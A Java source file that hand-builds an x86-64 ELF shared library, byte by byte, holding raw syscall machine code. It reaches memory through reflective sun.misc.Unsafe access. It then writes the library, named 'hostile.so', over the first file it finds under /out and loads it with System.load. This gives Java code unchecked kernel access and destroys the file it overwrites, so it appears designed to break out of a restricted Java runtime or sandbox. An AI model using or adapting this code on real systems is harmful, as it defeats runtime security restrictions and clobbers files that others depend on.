import java.lang.reflect.Field;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

/**
 * Code that is not Java: a library of one function, which calls the kernel. It is written here byte
 * by byte, as a compiler would have made it, for x86-64 and Linux.
 */
final class Native {
  /** Of the six arguments of a call from Java those that the kernel wants, where it wants them. */
  private static final int[] CODE = {
    0xC6, 0x05, 0xF9, 0x00, 0x00, 0x00, 0x01, // mov byte [rip + 249], 1: the page becomes our own
    0x48, 0x89, 0xD0, // mov rax, rdx
    0x48, 0x89, 0xCF, // mov rdi, rcx
    0x4C, 0x89, 0xC6, // mov rsi, r8
    0x4C, 0x89, 0xCA, // mov rdx, r9
    0x4C, 0x8B, 0x54, 0x24, 0x08, // mov r10, [rsp + 8]
    0x4C, 0x8B, 0x44, 0x24, 0x10, // mov r8, [rsp + 16]
    0x0F, 0x05, // syscall
    0xC3 // ret
  };

  private static final String SYMBOL = "Java_Native_call";
  private static final int SYMBOLS = 0x100;
  private static final int HASHES = 0x140;
  private static final int STRINGS = 0x160;
  private static final int DYNAMIC = 0x180;
  private static final int TEXT = 0x200;
  private static final int SIZE = 0x400;

  private Native() {}

  /** A system call by its number; a negative result is an error's number. */
  private static native long call(long number, long a, long b, long c, long d, long e);

  /**
   * Calls the kernel.
   *
   * @return what it returned, not negative
   * @throws IllegalStateException when it refused
   */
  static long kernel(String what, int number, long... arguments) {
    long[] all = java.util.Arrays.copyOf(arguments, 5);
    long result = call(number, all[0], all[1], all[2], all[3], all[4]);
    if (result < 0) {
      throw new IllegalStateException("refused: " + what + ", error " + -result);
    }
    return result;
  }

  /** The address of a copy that stays where it is. */
  static long address(byte[] bytes) throws ReflectiveOperationException {
    Class<?> type = Class.forName("sun.misc.Unsafe");
    Field theUnsafe = type.getDeclaredField("theUnsafe");
    theUnsafe.setAccessible(true);
    Object unsafe = theUnsafe.get(null);
    long address =
        (long) type.getMethod("allocateMemory", long.class).invoke(unsafe, (long) bytes.length);
    for (int i = 0; i < bytes.length; i++) {
      type.getMethod("putByte", long.class, byte.class).invoke(unsafe, address + i, bytes[i]);
    }
    return address;
  }

  static long address(String text) throws ReflectiveOperationException {
    return address((text + "\0").getBytes(StandardCharsets.UTF_8));
  }

  /** Loads it from the only place that can be written: where the model goes. */
  static void load() throws Exception {
    if (!System.getProperty("os.arch").equals("amd64")
        || !System.getProperty("os.name").equals("Linux")) {
      throw new UnsupportedOperationException("this code is for Linux on x86-64");
    }
    Path file = Path.of("hostile.so").toAbsolutePath();
    if (Files.isDirectory(Path.of("/out"))) {
      try (Stream<Path> files = Files.walk(Path.of("/out"))) {
        file = files.filter(Files::isRegularFile).findFirst().orElseThrow();
      }
    }
    Files.write(file, library());
    System.load(file.toString());
  }

  /** ELF: a header, three program headers, and what the dynamic section points to. */
  private static byte[] library() {
    ByteBuffer out = ByteBuffer.allocate(SIZE).order(ByteOrder.LITTLE_ENDIAN);
    out.put(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1}).position(16);
    out.putShort((short) 3).putShort((short) 62).putInt(1).putLong(0).putLong(64).putLong(0);
    out.putInt(0).putShort((short) 64).putShort((short) 56).putShort((short) 3);
    out.position(64);
    header(out, 1, 7, 0, SIZE, 0x1000);
    header(out, 2, 6, DYNAMIC, 0x60, 8);
    header(out, 0x6474e551, 6, 0, 0, 16);
    out.position(SYMBOLS + 24);
    out.putInt(1).put((byte) 0x12).put((byte) 0).putShort((short) 1).putLong(TEXT);
    out.putLong(CODE.length).position(HASHES);
    out.putInt(1).putInt(2).putInt(1).putInt(0).putInt(0).position(STRINGS + 1);
    out.put(SYMBOL.getBytes(StandardCharsets.US_ASCII)).position(DYNAMIC);
    out.putLong(4).putLong(HASHES).putLong(5).putLong(STRINGS).putLong(6).putLong(SYMBOLS);
    out.putLong(10).putLong(SYMBOL.length() + 2).putLong(11).putLong(24).position(TEXT);
    for (int code : CODE) {
      out.put((byte) code);
    }
    return out.array();
  }

  private static void header(ByteBuffer out, int type, int flags, long from, long size, long to) {
    out.putInt(type).putInt(flags).putLong(from).putLong(from).putLong(from);
    out.putLong(size).putLong(size).putLong(to);
  }
}
